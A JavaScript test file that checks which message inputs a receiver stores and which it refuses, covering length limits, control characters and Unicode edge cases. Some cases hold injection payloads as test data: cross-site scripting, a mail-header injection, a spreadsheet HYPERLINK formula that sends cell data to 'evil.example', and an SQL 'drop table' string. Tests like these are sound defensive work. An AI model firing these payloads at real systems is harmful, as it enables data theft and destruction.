// @ts-check
import { describe, it } from 'node:test';
import { useDatabase } from '../support.mjs';
import { isRefused, isStored } from './support.mjs';

const { receiver } = useDatabase();
const REQUIRED = ['message required'];
const TOO_LONG = ['message too-long'];

/** @param {string} title @param {string} message @param {string} [kept] as it is stored */
const stored = (title, message, kept = message) =>
  it(title, async () => isStored(await receiver(), { message }, { message: kept }));
/** @param {string} title @param {string} message @param {string[]} errors */
const refused = (title, message, errors) =>
  it(title, async () => isRefused(await receiver(), { message }, errors));

describe('the corpus, text', () => {
  refused('1 empty', '', REQUIRED);
  refused('2 spaces only', '   \n  \t ', REQUIRED);
  refused('3 no-break and ideographic spaces only', '\u00a0\u3000\u2003', REQUIRED);
  refused('4 zero-width characters only', '\u200b\u200d\u2060\ufeff', REQUIRED);
  refused('5 10,000 characters', 'x'.repeat(10_000), TOO_LONG);
  refused('6 1,000,000 characters', 'x'.repeat(1_000_000), TOO_LONG);
  stored('7 the limit exactly', 'x'.repeat(2000));
  refused('8 the limit and one', 'x'.repeat(2001), TOO_LONG);
  stored('9 the limit made of line ends', `a${'\n'.repeat(1998)}b`);
  stored('10 CR, LF and CR LF mixed', 'a\rb\nc\r\nd', 'a\nb\nc\nd');
  stored('11 NUL inside', 'a\0b', 'ab');
  stored(
    '12 controls: C0, DEL and C1 go, save that NEL ends a line',
    'a\u0001\u001b[31mb\u007f\u009fc\u0085d',
    'a[31mbc\nd',
  );
  stored('13 lone surrogates', 'a\ud800b\udc00c', 'a\ufffdb\ufffdc');
  stored('14 families, flags, tones of skin', '👨‍👩‍👧‍👦 🏴󠁧󠁢󠁷󠁬󠁳󠁿 👍🏽');
  stored('14 counted by code points, as in the page', '👍'.repeat(2000));
  refused('14 one more', '👍'.repeat(2001), TOO_LONG);
  stored('15 a hundred stacked marks', `x${'\u0317'.repeat(100)}`);
  stored('16 direction marks without their end', '\u202eevil\u2066 \u202dmore');
  stored('17 Arabic and Hebrew with digits', 'رقم 07700 900123 שלום 999');
  stored('18 composed and decomposed letters alike', 'Sia\u0302n, S\u0323\u0307', 'Siân, Ṩ');
  stored('19 script', '<script>alert(1)</script><img src=x onerror=alert(1)> javascript:alert(1)');
  stored('20 templates and mail headers', '{{7*7}} ${x} #{x} %0d%0aBcc: a@example.org');
  for (const sign of ['=', '+', '-', '@']) {
    stored(`21 a formula: ${sign}`, `${sign}HYPERLINK("https://evil.example?"&A1)`);
  }
  stored('22 quotes, backslashes, SQL', `"'\\ '; drop table enquiries; --`);
  stored('23 a paste from a word processor', '“Smart” – quotes…\tsoft\u00adhyphen\u00a0space');
  refused('24 one word of 5,000 characters', 'w'.repeat(5000), TOO_LONG);
  stored('24 one word as long as may be', 'w'.repeat(2000));
});
